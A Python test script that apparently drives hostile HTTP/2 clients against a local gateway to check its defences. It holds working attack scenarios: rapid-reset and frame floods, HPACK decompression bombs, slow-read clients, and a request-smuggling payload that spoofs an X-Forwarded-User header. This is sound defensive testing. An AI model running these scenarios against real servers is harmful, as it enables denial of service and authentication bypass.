"""Clients that wear a gateway out, wait for ever, or take nothing. hostile.py PORT NAME [NUMBER] prints a line of JSON."""

import json
import signal
import sys

from peer import *


def field_block(*fields):
    """Literals that nobody remembers, so that the same bytes serve on every stream."""
    def text(value):
        return hpack.hpack.encode_integer(len(value), 7) + value.encode()
    return b"".join(b"\0" + text(name) + text(value) for name, value in fields)


def ended(peer):
    """What the gateway says at the end, and how many answers there were."""
    told, answers = None, 0
    try:
        while (frame := peer.read()) is not None:
            if frame.type == GOAWAY and frame.error_code:
                told = frame.error_code
            answers += frame.type == HEADERS
    except Unexpected:
        return {"told": None, "open": True, "answers": answers}
    return {"told": told, "open": False, "answers": answers}


def flood(port, message, count=20000):
    """So many messages: how the gateway ends it."""
    peer = Peer(port)
    peer.socket.settimeout(50)
    for start in range(0, count, 500):
        peer.send(*(message(peer, number) for number in range(start, start + 500)))
    return ended(peer)


def resets(port, count):
    """So many streams that are given up as they begin, over as many connections as it takes; an honest peer asks beside
    them, and counts its answers."""
    count = int(count)
    honest, number, asked, connections, told = Peer(port), 1, 0, 0, set()
    block = field_block(*honest.fields(path="/public/reset"))
    sent = 0
    while sent < count:
        peer = Peer(port)
        peer.send(*(raw(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, block) + raw(RST_STREAM, 0, 2 * n + 1, b"\0\0\0\x08")
                    for n in range(1000)))
        told.add(ended(peer)["told"])
        sent, connections = sent + 1000, connections + 1
        honest.send(raw(HEADERS, END_STREAM | END_HEADERS, number, block))
        honest.answered(number)
        number, asked = number + 2, asked + 1
    return {"sent": sent, "connections": connections, "honest": asked, "told": sorted(it or 0 for it in told)}


FAULTS = {
    "more content than announced": lambda stream: raw(DATA, END_STREAM, stream, b"xy"),
    "less content than announced": lambda stream: raw(DATA, END_STREAM, stream),
    "a window of more than there can be": lambda stream: raw(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff"),
    "trailers that do not end": lambda stream: raw(HEADERS, END_HEADERS, stream, field_block(("x", "y"))),
    "a capital letter in trailers": lambda stream: raw(
        HEADERS, END_HEADERS | END_STREAM, stream, field_block(("X", "y"))),
}


def made_resets(port, fault="more content than announced"):
    """Streams that the gateway has to reset, because of what comes on them."""
    peer = Peer(port)
    block = field_block(*peer.fields("POST", "/public/reset"), ("content-length", "1"))
    for start in range(0, 2000, 40):
        peer.send(*(raw(HEADERS, END_HEADERS, 2 * n + 1, block) + FAULTS[fault](2 * n + 1)
                    for n in range(start, start + 40)), raw(PING, payload=b"whosthis"))
        while (frame := peer.read()) is not None and frame.type != PING:
            if frame.type == GOAWAY:
                return {"told": frame.error_code, "sent": start + 40}
    return {"told": None, "sent": 2000}


def bomb(port):
    """One long field that is remembered, and named again and again: a byte stands for four thousand."""
    peer = Peer(port)
    head = peer.block([*peer.fields(path="/public/never"), ("x", "y" * 4000)])
    peer.send(raw(HEADERS, END_STREAM | END_HEADERS, 1, head + b"\xbe" * 12000))
    return ended(peer)


def small_bomb(port):
    """A field of the table that all have, named again and again: little to unpack, and too many."""
    peer = Peer(port)
    peer.send(raw(HEADERS, END_STREAM | END_HEADERS, 1, peer.block(peer.fields(path="/public/never")) + b"\x90" * 12000))
    return ended(peer)


LATE = {
    "a head": lambda: raw(HEADERS, END_HEADERS, 1, field_block(("x", "y"))),
    "an empty end": lambda: raw(DATA, END_STREAM, 1),
    "a head and a PING": lambda: raw(HEADERS, END_HEADERS, 1, field_block(("x", "y"))) + raw(PING, payload=b"whosthis"),
}


def late(port, name):
    """Frames for a stream that is over, and was refused before its client had ended it: nobody begins anything, or ends
    it, by them."""
    peer = Peer(port)
    peer.send(peer.headers(1, peer.fields("TRACE", "/public/never"), end=False))
    peer.answered(1, "405")
    for _ in range(20):
        peer.send(LATE[name]() * 10000)
    return ended(peer)


def no_reader(port, window, count, streams=100):
    """Streams whose answers are large, on so many connections, by a client that takes nothing of them.

    With a window the socket is not read; without one nothing may be sent. Waits until it is killed.
    """
    peers = []
    for _ in range(int(count)):
        peer = Peer(port, settings=setting(4, int(window)))
        if int(window):
            peer.send(raw(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
        block = field_block(*peer.fields(path="/public/large"))
        peer.send(*(raw(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, block) for n in range(int(streams))))
        peers.append(peer)
    print(json.dumps({"asked": len(peers) * int(streams)}), flush=True)
    signal.pause()


def no_taker(port, count):
    """Bodies that wait for an application which takes nothing, a mebibyte on each of so many connections. Waits until it
    is killed."""
    peers = [Peer(port) for _ in range(int(count))]
    for peer in peers:
        peer.send(peer.post(1), raw(DATA, END_STREAM, 1, b"x"))
        peer.answered(1)
    block = field_block(*peers[0].fields("POST", "/public/wait"))
    piece = b"x" * 16384
    for peer in peers:
        for stream in range(3, 22, 2):
            peer.send(raw(HEADERS, END_HEADERS, stream, block), raw(DATA, 0, stream, piece) * 6)
    for peer in peers:
        peer.socket.settimeout(0.01)
    ends = [end for peer in peers if not (end := ended(peer))["open"]]
    print(json.dumps({"sent": len(peers) * 60 * len(piece), "ended": len(ends),
                      "told": sum(end["told"] == ENHANCE_YOUR_CALM for end in ends)}), flush=True)
    signal.pause()


def small_parts(port, count):
    """A byte of each of a hundred bodies that wait for an application, on each of so many connections, and each in a
    read of its own: the frames around it have no meaning. Waits until it is killed."""
    peers = [Peer(port) for _ in range(int(count))]
    block = field_block(*peers[0].fields("POST", "/public/wait"))
    filling = raw(0x42, 0, 0, b"x" * 16000) * 3
    for stream in range(1, 200, 2):
        for peer in peers:
            peer.send(raw(HEADERS, END_HEADERS, stream, block), raw(DATA, 0, stream, b"x"), filling)
    for peer in peers:
        peer.alive()
    print(json.dumps({"read": 100 * len(peers)}), flush=True)
    signal.pause()


def window(port):
    """Prints how much a new connection may send before it is taken, after some was, then again once it may send more."""
    peer = Peer(port)
    windows = []
    for stream in range(1, 1000, 2):
        peer.send(peer.headers(stream, [(":method", "POST"), (":scheme", "http"), (":path", "/public/never"),
                                        (":authority", "elsewhere.example")], end=False),
                  raw(DATA, END_STREAM, stream, b"x"))
        peer.answered(stream, "421")
        peer.alive()
        windows.append(connection_window(peer))
        if stream == 1:
            print(json.dumps({"first": windows[0]}), flush=True)
        if windows[-1] > windows[0]:
            break
        time.sleep(0.05)
    return {"then": windows[-1]}


def connection_window(peer):
    return 65535 + sum(it.window_increment for it in peer.seen if it.type == WINDOW_UPDATE and it.stream_id == 0)


def never_reads(port):
    """A client that makes all the room there can be, asks for large answers, and takes nothing from its socket. Waits
    until it is killed."""
    small = socket.socket()
    small.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    small.connect(("127.0.0.1", port))
    block = field_block(*Peer(port).fields(path="/public/large"))
    small.sendall(PREFACE + raw(SETTINGS, payload=setting(4, (1 << 31) - 1))
                  + raw(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30))
                  + b"".join(raw(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, block) for n in range(8)))
    print(json.dumps({"asked": 8}), flush=True)
    signal.pause()


def length_of_tunnel(port):
    """Begins WebSockets that have a length where nobody switches: an application that is told of the length waits for it on
    its connection, and takes what comes there next for it. What comes next has another request in its body."""
    hidden = b"GET /public/never HTTP/1.1\r\nHost: x\r\nX-Forwarded-User: mallory\r\n\r\n"
    for length in range(100, 600, 40):
        peer = Peer(port)
        peer.socket.settimeout(2)
        fields = [(":method", "CONNECT"), (":protocol", "websocket"), (":scheme", "http"), (":path", "/public/nothing"),
                  (":authority", peer.authority), ("origin", f"http://{peer.authority}"), ("content-length", str(length))]
        body = b"\r\n" * 40 + hidden
        for stream, message in [
            (1, peer.headers(1, fields, end=False)),
            (3, peer.post(3, more=[("content-length", str(len(body)))]) + raw(DATA, END_STREAM, 3, body)),
        ]:
            peer.send(message)
            try:
                while (frame := peer.read()) is not None:
                    if frame.stream_id == stream and (frame.type == RST_STREAM or "END_STREAM" in frame.flags):
                        break
            except Unexpected:
                pass  # Where the attack takes effect, nobody answers any more. What arrived is for the test to look at.
        peer.socket.close()
    return {}


def half_head(port):
    """A head that does not go on."""
    peer = Peer(port)
    peer.send(peer.headers(1, flags=0))
    return ended(peer)


def idle(port):
    """A connection on which one request was answered, and nothing follows."""
    peer = Peer(port)
    peer.send(peer.headers(1))
    peer.answered(1)
    return ended(peer)


def stays(port):
    """A connection on which one request was answered, beside one that is ended for a head that does not go on: whoever is
    idle has more time than that."""
    peer = Peer(port)
    peer.send(peer.headers(1))
    peer.answered(1)
    other = half_head(port)
    peer.alive()
    peer.send(peer.headers(3))
    peer.answered(3)
    return other


def half_body(port):
    """A body that does not go on; the connection does."""
    peer = Peer(port)
    peer.send(peer.post(1), raw(DATA, 0, 1, b"x"))
    head = peer.answered(1, "408")
    peer.alive()
    return {"status": dict(head)[":status"]}


def closed_window(port):
    """An answer that nobody makes room for; the connection goes on."""
    peer = Peer(port, settings=setting(4, 0))
    peer.send(peer.headers(1))
    peer.stream_error(1, INTERNAL_ERROR)
    return {}


def expect(port):
    """A body that waits to be asked for."""
    peer = Peer(port)
    peer.send(peer.post(1, more=[("expect", "100-continue"), ("content-length", "4")]))
    first = peer.read_until(lambda it: it.type == HEADERS)
    peer.send(raw(DATA, END_STREAM, 1, b"body"))
    peer.answered(1)
    return {"first": dict(first.decoded)[":status"]}


def refused(port):
    """What is answered without the application: another site, a body too large, announced and not."""
    peer = Peer(port)
    peer.send(peer.headers(1, [(":method", "GET"), (":scheme", "http"), (":path", "/public/never"),
                               (":authority", "elsewhere.example")]))
    peer.answered(1, "421")
    peer.send(peer.post(3, "/public/never", [("content-length", "10001")]))
    peer.answered(3, "413")
    peer.send(peer.post(5, "/public/long"), raw(DATA, END_STREAM, 5, b"x" * 10001))
    peer.answered(5, "413")
    peer.alive()
    return {}


def drain(port):
    """A request under way while the gateway ends: says when it hears the farewell, then what became of the request, of one
    that comes after the farewell's last word, and of the connection."""
    peer = Peer(port)
    peer.send(peer.headers(1, peer.fields(path="/public/wait")))
    print(json.dumps({"asked": True}), flush=True)
    farewells, answered = [], False
    while (frame := peer.read()) is not None:
        if frame.type == PING and "ACK" not in frame.flags:
            peer.send(raw(PING, ACK, 0, frame.opaque_data))
        if frame.type == GOAWAY:
            farewells.append([frame.last_stream_id, frame.error_code])
            if len(farewells) == 2:
                peer.send(peer.headers(3, peer.fields(path="/public/never")))
                print(json.dumps({"told": farewells}), flush=True)
        if frame.stream_id == 1 and "END_STREAM" in frame.flags:
            answered = True
    return {"farewells": farewells, "answered": answered, "late": any(it.stream_id == 3 for it in peer.seen)}


FLOODS = {
    "settings": lambda peer, number: raw(SETTINGS, payload=setting(3, number)),
    "ping": lambda peer, number: raw(PING, payload=b"whosthis"),
    "empty data": lambda peer, number: peer.post(1) if number == 0 else raw(DATA, 0, 1),
    "padding": lambda peer, number: peer.post(1) if number == 0 else raw(DATA, PADDED, 1, b"\x07" + b"\0" * 7),
    "window updates": lambda peer, number: raw(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01"),
    "priorities": lambda peer, number: raw(PRIORITY, 0, 2 * number + 1, b"\0\0\0\0\x10"),
    "unknown frames": lambda peer, number: raw(0x42, 0, 0, b"x" * 64),
    "continuation": lambda peer, number:
        peer.headers(1, peer.fields(path="/public/never"), flags=0) if number == 0 else raw(CONTINUATION, 0, 1, b""),
    "long continuation": lambda peer, number:
        peer.headers(1, peer.fields(path="/public/never"), flags=0) if number == 0
        else raw(CONTINUATION, 0, 1, field_block(("x", "y" * 900))),
}

if __name__ == "__main__":
    port, name, *rest = int(sys.argv[1]), *sys.argv[2:]
    if name in FLOODS:
        answer = flood(port, FLOODS[name])
    else:
        scenarios = [resets, made_resets, bomb, small_bomb, late, no_reader, no_taker, small_parts, window,
                     never_reads, length_of_tunnel, half_head, idle, stays, half_body, closed_window, expect, refused, drain]
        answer = {it.__name__: it for it in scenarios}[name](port, *rest)
    print(json.dumps(answer), flush=True)
